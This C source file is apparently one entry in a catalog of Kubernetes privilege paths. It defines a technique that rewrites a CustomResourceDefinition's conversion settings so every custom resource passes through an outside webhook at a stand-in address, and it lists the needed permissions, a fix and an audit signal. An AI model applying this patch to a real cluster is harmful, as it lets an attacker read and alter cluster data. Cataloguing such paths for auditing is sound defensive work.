// Conversion webhooks see the whole object in both directions. The schema can also be loosened so that fields survive that it
// dropped.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	if (p->object.type != VALUE_OBJECT)
		return false;
	build_set(p, "spec.conversion", build_doc(p, "{strategy: 'Webhook', webhook: {clientConfig: {url: 'https://192.0.2.1/'}, "
		"conversionReviewVersions: ['v1']}}"));
	return true;
}

const struct technique technique_crd_conversion_hook = {
	.id = "crd-conversion-hook",
	.title = "Convert custom resources through one's own webhook",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY | HARM_AVAILABILITY,
	.attack = "T1557,T1546",
	.matrix = "",
	.needs = "patch or update on customresourcedefinitions",
	.gives = "reads and rewrites every custom resource of that kind",
	.fixes = "Remove patch and update on customresourcedefinitions, or limit them with resourceNames",
	.audit = "update or patch of customresourcedefinitions that changes spec.conversion",
	.source = "kubernetes.io docs tasks/extend-kubernetes/custom-resources/custom-resource-definition-versioning",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_TRAFFIC,
	.grant = {
		{ "patch|update", "apiextensions.k8s.io", "customresourcedefinitions", .scope = SCOPE_CLUSTER },
	},
	.body = body,
};
